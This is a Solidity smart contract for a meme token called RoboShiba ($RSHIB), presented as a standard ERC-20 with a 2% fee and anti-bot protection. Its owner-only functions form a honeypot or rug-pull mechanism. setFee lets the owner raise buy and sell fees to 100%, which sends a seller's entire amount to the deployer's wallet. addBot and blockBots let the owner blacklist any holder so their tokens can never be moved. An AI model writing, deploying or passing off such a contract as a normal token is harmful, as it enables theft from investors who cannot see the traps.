// SPDX-License-Identifier: MIT
// RoboShiba ($RSHIB) - the robot dog army. Bots get rekt.
pragma solidity ^0.8.14;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function getPair(address tokenA, address tokenB) external view returns (address pair);
}

interface IUniswapV2Router02 {
    function factory() external pure returns (address);
    function WETH() external pure returns (address);
}

contract Ownable {
    address internal _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract RoboShiba is IERC20, Ownable {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 private _tTotal;

    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isExcludedFromFee;
    mapping(address => bool) private _bots;

    address public uniswapV2Pair;
    address private _marketingWallet;
    uint256 private _buyFee = 2;
    uint256 private _sellFee = 2;
    bool private _tradingOpen;

    constructor(string memory _name, string memory _symbol, uint256 _supply) {
        name = _name;
        symbol = _symbol;
        _tTotal = _supply;
        _marketingWallet = msg.sender;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        _balances[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    function totalSupply() public view override returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function transfer(address recipient, uint256 amount) public override returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function allowance(address owner_, address spender) public view override returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        require(_allowances[sender][msg.sender] >= amount, "ERC20: transfer amount exceeds allowance");
        _allowances[sender][msg.sender] -= amount;
        _transfer(sender, recipient, amount);
        return true;
    }

    function openTrading() external onlyOwner {
        require(!_tradingOpen, "trading is already open");
        IUniswapV2Router02 router = IUniswapV2Router02(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
        uniswapV2Pair = IUniswapV2Factory(router.factory()).getPair(address(this), router.WETH());
        _tradingOpen = true;
    }

    function setFee(uint256 buyFee, uint256 sellFee) external onlyOwner {
        require(buyFee <= 100 && sellFee <= 100, "fee > 100%");
        _buyFee = buyFee;
        _sellFee = sellFee;
    }

    function blockBots(address[] memory bots_) public onlyOwner {
        for (uint256 i = 0; i < bots_.length; i++) {
            if (bots_[i] != uniswapV2Pair) _bots[bots_[i]] = true;
        }
    }

    function addBot(address bot) external onlyOwner {
        _bots[bot] = true;
    }

    function unblockBot(address notbot) public onlyOwner {
        _bots[notbot] = false;
    }

    function isBot(address account) external view returns (bool) {
        return _bots[account];
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        require(!_bots[from] && !_bots[to], "ERC20: bot");
        uint256 fee = 0;
        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
            require(_tradingOpen, "Trading not open");
            if (from == uniswapV2Pair) fee = (amount * _buyFee) / 100;
            else if (to == uniswapV2Pair) fee = (amount * _sellFee) / 100;
        }
        _balances[from] -= amount;
        if (fee > 0) {
            _balances[_marketingWallet] += fee;
            emit Transfer(from, _marketingWallet, fee);
        }
        _balances[to] += amount - fee;
        emit Transfer(from, to, amount - fee);
    }
}
